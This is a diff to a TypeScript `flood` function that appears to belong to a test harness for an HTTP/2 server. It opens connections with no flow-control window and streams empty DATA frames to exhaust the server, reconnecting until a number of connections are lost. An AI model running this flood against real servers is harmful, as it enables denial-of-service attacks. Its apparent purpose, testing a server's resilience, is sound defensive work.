@@ -95,28 +95,25 @@ export class Http2Connection implements Disposable {
   }
 }
 
+const ATTACKERS = 4; // so few that a busy program still gets its turn between them
+
 /**
- * Sends requests with empty DATA frames as their bodies until the end of an attack, and
- * opens each connection again at once when it is closed.
+ * Sends requests with empty DATA frames as their bodies, until each attacker has lost a
+ * number of connections, or the end of the attack.
  */
 export async function flood(
   port: number,
-  method: string,
+  connections: number,
   end: AbortSignal,
-  connections = 4, // so few that a busy program still gets its turn between them
 ): Promise<void> {
-  const ended = new Promise((resolve) => end.onabort = resolve);
-  const fields = encodeFields({ ":method": method });
-  const start = frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, fields);
-  await Promise.all(Array.from({ length: connections }, async () => {
-    while (!end.aborted) {
+  const start = frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, encodeFields());
+  await Promise.all(Array.from({ length: ATTACKERS }, async () => {
+    for (let lost = 0; lost < connections && !end.aborted;) {
       try {
         using opened = await Http2Connection.open(port, NO_WINDOW);
         await opened.send(start);
-        const sendFrames = async () => {
-          while (true) await send(opened.connection, EMPTY_FRAMES);
-        };
-        await Promise.race([sendFrames(), ended]);
+        lost++; // only the program ends what follows
+        while (true) await send(opened.connection, EMPTY_FRAMES);
       } catch {
         await delay(1); // it is refused or closed
       }
